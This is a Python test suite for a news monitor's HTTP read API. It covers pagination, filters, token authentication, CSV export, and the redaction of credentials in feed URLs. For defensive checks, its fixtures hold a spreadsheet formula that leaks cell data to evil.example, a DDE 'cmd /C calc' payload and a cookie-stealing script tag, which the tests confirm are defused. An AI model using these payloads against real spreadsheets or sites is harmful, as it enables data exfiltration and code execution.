"""The read API over HTTP: a real uvicorn server on 127.0.0.1 serving the application over a
real database (SQLite and PostgreSQL) with hits stored the way the pipeline stores them."""

from __future__ import annotations

import csv
import io
import json
import threading
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import uvicorn
from sqlalchemy import Engine

from monitor.errors import ConfigError
from monitor.models import Article, Entry, FeedSpec, Match, Route
from monitor.store import articles, feeds
from monitor.web.access import check_binding
from monitor.web.app import create_app
from tests.conftest import free_port, wait_until
from tests.test_cli import monitor

NOW = datetime(2026, 12, 1, 12, 0, tzinfo=UTC)
TOKEN = "a-long-enough-web-token"


def _store(engine: Engine, n: int, profile: str, language: str, title: str) -> None:
    url, published = f"https://news.example/{n}", NOW - timedelta(days=n)
    articles.store_article(
        engine,
        feed_id=feeds.feed_rows(engine)["https://news.example/rss"].id or 0,
        entry=Entry(f"g{n}", url, title, "", published),
        article=Article(url, title, f"text {n}", language=language, published_at=published),
        matches=[Match(profile, "v1", ["term"], 1.0, "the **term**")],
        routes={profile: [Route("mail")]},
        now=NOW - timedelta(hours=n),
    )


@pytest.fixture
def archive(engine: Engine) -> Engine:
    """Five hits: English, Chinese (Simplified and Traditional), Russian."""
    feeds.sync_feeds(engine, [FeedSpec("https://news.example/rss", name="Example")], NOW)
    for n, profile, language, title in [
        (1, "gfw", "en", "Great Firewall tightened"),
        (2, "cac", "zh", "国家网信办发布新规"),
        (3, "gfw", "zh-Hant", "防火長城再升級"),
        (4, "gfw", "ru", "Великий файрвол"),
        (5, "cac", "en", "Regulator drafts rules"),
    ]:
        _store(engine, n, profile, language, title)
    return engine


class Served:
    def __init__(self, base: str) -> None:
        self.base = base

    def get(self, path: str, token: str | None = None) -> tuple[int, dict[str, Any], Any]:
        status, headers, body = self.text(path, token)
        return status, headers, json.loads(body)

    def text(self, path: str, token: str | None = None) -> tuple[int, dict[str, Any], str]:
        """The status, headers (lower-case names) and body as text (UTF-8) of a GET."""
        request = urllib.request.Request(self.base + path)
        if token:
            request.add_header("Authorization", f"Bearer {token}")
        try:
            with urllib.request.urlopen(request, timeout=30) as answer:
                return answer.status, dict(answer.headers), answer.read().decode()
        except urllib.error.HTTPError as failed:
            return failed.code, dict(failed.headers), failed.read().decode()


def _serve(
    engine: Engine,
    config_dir: Path,
    token: str | None,
    *,
    reads_open: bool = False,
    evidence_dir: Path | None = None,
) -> Iterator[Served]:
    app = create_app(engine, config_dir, token, reads_open=reads_open, evidence_dir=evidence_dir)
    port = free_port()
    server = uvicorn.Server(
        uvicorn.Config(app, host="127.0.0.1", port=port, log_config=None, access_log=False)
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    wait_until(lambda: server.started, 30, "the web server to start")
    try:
        yield Served(f"http://127.0.0.1:{port}")
    finally:
        server.should_exit = True
        thread.join(timeout=30)


@pytest.fixture
def api(archive: Engine, config_dir: Path) -> Iterator[Served]:
    yield from _serve(archive, config_dir, None)


def test_hits_come_newest_first_a_page_at_a_time(api: Served) -> None:
    status, headers, first = api.get("/api/v1/hits?limit=2")
    assert status == 200 and "default-src 'none'" in headers["content-security-policy"]
    assert [item["title"] for item in first["items"]] == [
        "Great Firewall tightened",
        "国家网信办发布新规",
    ]
    seen = [item["id"] for item in first["items"]]
    cursor = first["next_cursor"]
    while cursor:
        _, _, page = api.get(f"/api/v1/hits?limit=2&cursor={cursor}")
        seen += [item["id"] for item in page["items"]]
        cursor = page["next_cursor"]
    assert len(seen) == len(set(seen)) == 5  # every hit once, across the pages
    item = first["items"][0]
    for key in ("profile", "url", "title", "feed", "published_at", "matched_terms", "score"):
        assert key in item
    assert item["story_id"] and item["feed"] == "Example"


def test_filters_narrow_the_list(api: Served) -> None:
    _, _, gfw = api.get("/api/v1/hits?profile=gfw")
    assert {item["profile"] for item in gfw["items"]} == {"gfw"} and len(gfw["items"]) == 3
    _, _, zh = api.get("/api/v1/hits?language=zh")  # a language keeps its variants
    assert [item["title"] for item in zh["items"]] == ["国家网信办发布新规", "防火長城再升級"]
    _, _, hant = api.get("/api/v1/hits?language=zh-Hant")
    assert [item["title"] for item in hant["items"]] == ["防火長城再升級"]
    since = (NOW - timedelta(days=2, hours=12)).isoformat().replace("+00:00", "Z")
    _, _, recent = api.get(f"/api/v1/hits?since={since}")
    assert len(recent["items"]) == 2  # published 1 and 2 days ago
    _, _, dated = api.get("/api/v1/hits?since=2026-11-29")  # a date alone: midnight UTC
    assert [item["id"] for item in dated["items"]] == [item["id"] for item in recent["items"]]
    _, _, none = api.get("/api/v1/hits?feed=Nowhere")
    assert none == {"items": [], "next_cursor": None}


def test_one_hit_feeds_and_profiles(api: Served) -> None:
    _, _, page = api.get("/api/v1/hits?limit=1")
    hit_id = page["items"][0]["id"]
    status, _, one = api.get(f"/api/v1/hits/{hit_id}")
    assert status == 200 and one == page["items"][0]
    _, _, listed = api.get("/api/v1/feeds")
    assert [feed["url"] for feed in listed["items"]] == ["https://news.example/rss"]
    _, _, profiles = api.get("/api/v1/profiles")
    assert "great_firewall" in {p["name"] for p in profiles["items"]}
    status, _, schema = api.get("/openapi.json")
    assert status == 200 and "/api/v1/hits" in schema["paths"]


def test_errors_are_json_never_a_traceback(api: Served) -> None:
    assert api.get("/api/v1/hits/999999")[2] == {
        "error": {"status": 404, "message": "no hit 999999"}
    }
    status, _, bad = api.get("/api/v1/hits?limit=0")
    assert status == 400 and bad["error"]["status"] == 400 and "limit" in bad["error"]["message"]
    status, _, cursor = api.get("/api/v1/hits?cursor=%%%")
    assert status == 400 and "cursor" in cursor["error"]["message"]
    status, _, missing = api.get("/nowhere")
    assert (status, missing["error"]["status"]) == (404, 404)


def test_a_token_guards_every_read_but_healthz(archive: Engine, config_dir: Path) -> None:
    for api in _serve(archive, config_dir, TOKEN):
        assert api.get("/api/v1/hits")[0] == 401
        assert api.get("/api/v1/hits", token="wrong-token-of-some-length")[0] == 401
        status, _, page = api.get("/api/v1/hits", token=TOKEN)
        assert status == 200 and len(page["items"]) == 5
        assert api.get("/healthz")[0] == 200


def test_binding_beyond_loopback_needs_a_token(tmp_path: Path, config_dir: Path) -> None:
    check_binding("127.0.0.1", None)
    check_binding("::1", None)
    check_binding("0.0.0.0", TOKEN)
    with pytest.raises(ConfigError, match=r"web\.token \(MONITOR_WEB_TOKEN\)"):
        check_binding("0.0.0.0", None)
    ran = monitor("--config", str(config_dir), "web", "--host", "0.0.0.0", cwd=tmp_path)
    assert ran.returncode == 2 and "needs web.token" in ran.stderr


SECRET_FEED = "https://reader:hunter2-Secret@feeds.example/rss?token=tok-8f2a9c41d7"
SHOWN_FEED = "https://reader:****@feeds.example/rss?token=****"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
SCRIPT = "<script>alert(document.cookie)</script>"


def _put(
    engine: Engine,
    key: str,
    *,
    title: str,
    profiles: tuple[str, ...] = ("gfw",),
    published: datetime | None = None,
    stored: datetime = NOW,
    feed: str = "https://news.example/rss",
    sitename: str | None = None,
    story_id: int | None = None,
    snippet: str = "the **term**",
) -> int:
    """One more article, stored under https://news.example/KEY and linked with ?via=feed, with
    a hit for each of `profiles`: its id."""
    url = f"https://news.example/{key}"
    stored_entry = articles.store_article(
        engine,
        feed_id=feeds.feed_rows(engine)[feed].id or 0,
        entry=Entry(f"g-{key}", f"{url}?via=feed", title, "", published),
        article=Article(
            url, title, f"text of {key}", "en", "A. Writer", sitename, published_at=published
        ),
        matches=[Match(profile, "v1", ["term"], 1.0, snippet) for profile in profiles],
        routes={},
        now=stored,
        story_id=story_id,
    )
    return stored_entry.article_id


def _with_secret_feed(engine: Engine) -> None:
    """A second feed, without name or title, whose URL carries a password and a token."""
    specs = [FeedSpec("https://news.example/rss", name="Example"), FeedSpec(SECRET_FEED)]
    feeds.sync_feeds(engine, specs, NOW)


def _cells(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body, newline="")))


def test_hits_csv_defuses_formulas_and_names_the_next_page(api: Served, archive: Engine) -> None:
    _put(archive, "evil", title=FORMULA, snippet="@SUM(1+1)*cmd|' /C calc'!A0", stored=NOW)
    _put(archive, "script", title=SCRIPT, stored=NOW + timedelta(hours=1))
    status, headers, body = api.text("/api/v1/hits.csv?profile=gfw&limit=2")
    assert status == 200 and headers["content-type"] == "text/csv; charset=utf-8"
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["content-disposition"] == 'attachment; filename="hits.csv"'
    _, _, listed = api.get("/api/v1/hits?profile=gfw&limit=2")
    header, *rows = _cells(body)
    assert header == list(listed["items"][0])  # the JSON keys, id and story_id among them
    assert {"id", "story_id"} <= set(header)
    records = [dict(zip(header, row, strict=True)) for row in rows]
    assert [r["id"] for r in records] == [str(item["id"]) for item in listed["items"]]
    assert records[0]["title"] == SCRIPT  # text in a CSV: nothing runs it
    assert records[1]["title"] == "'" + FORMULA and records[1]["snippet"].startswith("'@SUM")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    seen, link = [r["id"] for r in records], headers.get("link")
    while link:
        assert link.endswith('>; rel="next"') and link.startswith("</api/v1/hits.csv?")
        _, headers, body = api.text(link[1 : link.index(">")])
        _, *rows = _cells(body)
        seen += [row[header.index("id")] for row in rows]
        assert {row[header.index("profile")] for row in rows} == {"gfw"}  # the filter kept
        link = headers.get("link")
    assert len(seen) == len(set(seen)) == 5  # three hits of gfw in the archive, two added


def test_hits_csv_is_what_monitor_hits_writes(
    api: Served, archive: Engine, config_dir: Path, database_url: str, tmp_path: Path
) -> None:
    _put(archive, "evil", title=FORMULA, snippet="-1+1", stored=NOW)
    _, _, served = api.text("/api/v1/hits.csv?limit=500")
    ran = monitor(
        "--config",
        str(config_dir),
        "hits",
        "--format",
        "csv",
        cwd=tmp_path,
        env={"MONITOR_DATABASE_URL": database_url},
    )
    assert ran.returncode == 0, ran.stderr
    assert "'" + FORMULA.replace('"', '""') in served and len(_cells(served)) == 7
    assert served.replace("\r\n", "\n") == ran.stdout  # text mode reads the CSV's \r\n as \n


def test_one_article_with_its_text_metadata_and_hits(api: Served, archive: Engine) -> None:
    _with_secret_feed(archive)
    article_id = _put(
        archive, "both", title="Two profiles", profiles=("gfw", "cac"), feed=SECRET_FEED
    )
    status, _, raw = api.text(f"/api/v1/articles/{article_id}")
    assert status == 200 and "hunter2" not in raw and "tok-8f2a9c41d7" not in raw
    found = json.loads(raw)
    hits = found.pop("hits")
    assert found == {
        "article_id": article_id,
        "url": "https://news.example/both?via=feed",
        "canonical_url": "https://news.example/both",
        "title": "Two profiles",
        "text": "text of both",
        "language": "en",
        "author": "A. Writer",
        "sitename": None,
        "feed": SHOWN_FEED,
        "published_at": None,
        "fetched_at": NOW.isoformat(),
        "source": "page",
        "note": None,
        "story_id": article_id,
    }
    assert [hit["profile"] for hit in hits] == ["cac", "gfw"]
    for hit in hits:
        assert api.get(f"/api/v1/hits/{hit['id']}")[2] == hit


def test_a_story_lists_its_articles_oldest_first_and_the_profiles_they_hit(
    api: Served, archive: Engine
) -> None:
    _with_secret_feed(archive)
    wire = _put(
        archive,
        "wire",
        title="Wire copy",
        published=NOW - timedelta(hours=24),
        sitename="Wire Agency",
    )
    copy = _put(
        archive,
        "copy",
        title="Wire copy, reprinted",
        profiles=("cac",),
        published=NOW,
        feed=SECRET_FEED,
        story_id=wire,
    )
    undated = _put(  # counts from when it was fetched: before the wire's publication
        archive,
        "undated",
        title="Undated",
        profiles=(),
        stored=NOW - timedelta(hours=30),
        story_id=wire,
    )
    status, _, story = api.get(f"/api/v1/stories/{wire}")
    assert status == 200 and story["story_id"] == wire and story["profiles"] == ["cac", "gfw"]
    assert story["articles"] == [
        {
            "article_id": undated,
            "outlet": "Example",
            "url": "https://news.example/undated?via=feed",
            "title": "Undated",
            "language": "en",
            "published_at": None,
        },
        {
            "article_id": wire,
            "outlet": "Wire Agency",
            "url": "https://news.example/wire?via=feed",
            "title": "Wire copy",
            "language": "en",
            "published_at": (NOW - timedelta(hours=24)).isoformat(),
        },
        {
            "article_id": copy,
            "outlet": SHOWN_FEED,
            "url": "https://news.example/copy?via=feed",
            "title": "Wire copy, reprinted",
            "language": "en",
            "published_at": NOW.isoformat(),
        },
    ]
    _, _, alone = api.get(f"/api/v1/stories/{copy}")
    assert alone["error"] == {"status": 404, "message": f"no story {copy}"}  # no article in it


def test_one_profile_with_its_hit_total_and_newest_hits(api: Served, archive: Engine) -> None:
    for n in range(12):
        _put(
            archive,
            f"gfw-{n}",
            title=f"Firewall story {n}",
            profiles=("great_firewall",),
            published=NOW - timedelta(days=n),
            stored=NOW + timedelta(minutes=n),
        )
    status, _, one = api.get("/api/v1/profiles/great_firewall")
    _, _, listed = api.get("/api/v1/profiles")
    described = next(p for p in listed["items"] if p["name"] == "great_firewall")
    assert status == 200 and {k: one[k] for k in described} == described
    assert one["hits_total"] == 12
    assert [hit["title"] for hit in one["latest_hits"]] == [
        f"Firewall story {n}" for n in range(11, 1, -1)
    ]
    _, _, quiet = api.get("/api/v1/profiles/cyber_sovereignty")
    assert (quiet["hits_total"], quiet["latest_hits"]) == (0, [])
    status, _, missing = api.get("/api/v1/profiles/nothing-of-the-kind")
    assert (status, missing) == (
        404,
        {"error": {"status": 404, "message": "no profile 'nothing-of-the-kind'"}},
    )


def _stats(api: Served, **query: str) -> tuple[int, Any]:
    status, _, body = api.get("/api/v1/stats/hits?" + urllib.parse.urlencode(query))
    return status, body


def test_hit_stats_count_every_bucket_zeros_included(api: Served, archive: Engine) -> None:
    # the archive's hits were published on Nov 30 (gfw), 29 (cac), 28 (gfw), 27 (gfw) and
    # 26 (cac); an undated article counts on the day it was fetched
    _put(archive, "undated", title="Undated", stored=datetime(2026, 11, 24, 23, 30, tzinfo=UTC))
    status, days = _stats(api, since="2026-11-24T06:00:00+08:00", until="2026-12-01T09:00:00Z")
    assert status == 200
    assert (days["profile"], days["bucket"], days["since"], days["until"]) == (
        None,
        "day",
        "2026-11-23",  # 06:00 in Beijing is the evening before in UTC
        "2026-12-01",
    )
    assert [(c["start"], c["count"]) for c in days["counts"]] == [
        ("2026-11-23", 0),
        ("2026-11-24", 1),
        ("2026-11-25", 0),
        ("2026-11-26", 1),
        ("2026-11-27", 1),
        ("2026-11-28", 1),
        ("2026-11-29", 1),
        ("2026-11-30", 1),
        ("2026-12-01", 0),
    ]
    _, gfw = _stats(api, profile="gfw", since="2026-11-24", until="2026-11-30")
    assert [c["count"] for c in gfw["counts"]] == [1, 0, 0, 1, 1, 0, 1]
    _, weeks = _stats(api, bucket="week", since="2026-11-20", until="2026-12-09")
    assert [(c["start"], c["count"]) for c in weeks["counts"]] == [
        ("2026-11-16", 0),
        ("2026-11-23", 5),  # Monday 23 to Sunday 29
        ("2026-11-30", 1),
        ("2026-12-07", 0),
    ]
    assert {date.fromisoformat(c["start"]).isoweekday() for c in weeks["counts"]} == {1}


def test_hit_stats_default_to_the_last_thirty_days(api: Served) -> None:
    before = datetime.now(UTC).date()
    status, stats = _stats(api)
    after = datetime.now(UTC).date()
    assert status == 200 and stats["until"] in {before.isoformat(), after.isoformat()}
    until = date.fromisoformat(stats["until"])
    first = until - timedelta(days=30)
    assert [c["start"] for c in stats["counts"]] == [
        (first + timedelta(days=n)).isoformat() for n in range(31)
    ]
    published = [(NOW - timedelta(days=n)).date() for n in range(1, 6)]  # the archive's
    assert sum(c["count"] for c in stats["counts"]) == sum(first <= d <= until for d in published)


def test_bad_requests_and_missing_things_answer_json_errors(api: Served) -> None:
    status, bucket = _stats(api, bucket="month")
    assert status == 400 and "bucket" in bucket["error"]["message"]
    status, long = _stats(api, since="2020-01-01", until="2026-01-01")
    assert status == 400 and "2192 days" in long["error"]["message"]
    assert "at most 1098" in long["error"]["message"]
    status, backwards = _stats(api, since="2026-12-01", until="2026-11-01")
    assert status == 400 and "since" in backwards["error"]["message"]
    status, edge = _stats(api, since="9999-12-31", until="9999-12-31T23:59:59Z")
    assert status == 400 and "9999" in edge["error"]["message"]
    assert api.get("/api/v1/articles/999999")[2] == {
        "error": {"status": 404, "message": "no article 999999"}
    }
    assert api.get("/api/v1/stories/999999")[2]["error"]["status"] == 404
    for path in (
        "/api/v1/articles/first",
        "/api/v1/articles/99999999999999999999",  # beyond any database's ids
        "/api/v1/hits/99999999999999999999",
        "/api/v1/hits.csv?limit=0",
        "/api/v1/hits.csv?cursor=%%%",
        "/api/v1/hits?since=0001-01-01T00:00:00%2B01:00",  # in no year UTC knows
    ):
        status, headers, failed = api.get(path)
        assert (status, failed["error"]["status"]) == (400, 400), path
        assert headers["content-type"] == "application/json"


def test_the_new_endpoints_are_described_in_openapi(api: Served) -> None:
    _, _, schema = api.get("/openapi.json")
    paths = schema["paths"]
    for path in (
        "/api/v1/hits.csv",
        "/api/v1/articles/{article_id}",
        "/api/v1/stories/{story_id}",
        "/api/v1/profiles/{name}",
        "/api/v1/stats/hits",
    ):
        assert paths[path]["get"]["summary"], path
    assert "text/csv" in paths["/api/v1/hits.csv"]["get"]["responses"]["200"]["content"]
    csv_params = {p["name"] for p in paths["/api/v1/hits.csv"]["get"]["parameters"]}
    assert csv_params == {p["name"] for p in paths["/api/v1/hits"]["get"]["parameters"]}
    bucket = next(
        p for p in paths["/api/v1/stats/hits"]["get"]["parameters"] if p["name"] == "bucket"
    )
    assert bucket["schema"]["enum"] == ["day", "week"]


def test_a_profile_edited_on_disk_is_served_at_the_next_request(
    api: Served, config_dir: Path
) -> None:
    """Profiles are parsed once and kept while their files stay as they are: an edit (or a
    new file) is what the next request sees, without a restart."""
    _, _, before = api.get("/api/v1/profiles/great_firewall")
    path = config_dir / "profiles" / "great_firewall.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(
        text.replace("description:", "description: Edited while serving.", 1), encoding="utf-8"
    )
    _, _, after = api.get("/api/v1/profiles/great_firewall")
    assert after["description"].startswith("Edited while serving.")
    assert after["description"] != before["description"]
    (config_dir / "profiles" / "newcomer.yaml").write_text(
        "name: newcomer\nquery: 网信\n", encoding="utf-8"
    )
    status, _, added = api.get("/api/v1/profiles/newcomer")
    assert status == 200 and added["query"] == "网信"
